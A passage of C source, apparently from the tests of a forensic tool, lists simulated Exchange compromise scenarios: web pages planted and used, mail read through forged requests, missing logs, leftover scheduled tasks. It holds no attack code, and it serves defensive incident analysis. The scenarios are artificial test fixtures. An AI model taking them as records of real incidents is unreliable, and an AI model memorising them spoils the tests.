    truth_list(l, "must_not", "mara.admin");
}

const struct scenario scenario_table[] = {
    { "bakery", "a small bakery, patched two days late: one page placed, used, and used again after the patch (the demo)", set_bakery, tell_bakery, NULL },
    { "untouched", "patched in time, nothing happened", NULL, tell_untouched, NULL },
    { "scanner-only", "scanners probe the flaw and ask for known shell names; nothing answers", NULL, tell_scanner, NULL },
    { "busy-admin", "an administrator edits and resets virtual directories, colleagues use a page of their own", set_busy, tell_busy, NULL },
    { "own-scan", "the organisation's own scanner checks the flaw", NULL, tell_own_scan, NULL },
    { "load-balancer", "two balancers in front, a scanner behind them", set_balanced, tell_balanced, NULL },
    { "load-balancer-victim", "an intruder behind two balancers, with a forged X-Forwarded-For", set_balanced, tell_victim_balanced, NULL },
    { "expired-logs", "collected in May: the logs of the window are gone", set_expired, tell_expired, NULL },
    { "autodiscover-only", "forged Autodiscover requests, nothing more", NULL, tell_autodiscover, NULL },
    { "mail-theft", "mail read through forged requests, more than 1 MB, and another server named", NULL, tell_mail, NULL },
    { "mail-sample", "mail read through forged requests, less than 1 MB", NULL, tell_sample, NULL },
    { "shell-unused", "a page placed and never requested", NULL, tell_unused, NULL },
    { "shell-reached", "a page placed and looked at, by its maker and by a scanner", NULL, tell_reached, NULL },
    { "shell-used", "a page placed and used in one visit", NULL, tell_used, NULL },
    { "shell-removed", "a page placed, used, used again and removed; a compiled copy stays", NULL, tell_removed, NULL },
    { "shell-in-logs-only", "the same, but the web roots were not collected", set_no_roots, tell_logs_only, drop_tree },
    { "task-left", "the page is gone, a scheduled task is not", NULL, tell_task, NULL },
    { "two-groups", "two groups with a page each; the first comes back after the patch from another address", set_two, tell_two, NULL },
    { "oab-download", "a page placed through an address book download", NULL, tell_download, NULL },
    { "exchange-2010", "Exchange 2010 without event logs", set_2010, tell_2010, NULL },
    { "mitigated-only", "never patched, rewrite rules in place", set_mitigated, tell_mitigated, NULL },
    { "moved-roots", "Exchange on D:, sites and hourly logs on E:", set_moved, tell_moved, NULL },
    { "coexistence", "an older Exchange beside it, and an edited logon page", set_coexistence, tell_coexistence, NULL },
    { "loot-fetched", "an archive staged in a web folder and fetched", NULL, tell_loot, NULL },
    { "msert-removed", "the page was removed by the Safety Scanner, whose log is the last trace", NULL, tell_msert, NULL },
    { "damaged", "used page, damaged and hostile logs", NULL, tell_damaged, after_damaged },
    { NULL, NULL, NULL, NULL, NULL },
};

const struct scenario *scenario_find(const char *name)
{
    for (const struct scenario *s = scenario_table; s->name; s++)
        if (!strcmp(s->name, name))
            return s;
    return NULL;
}
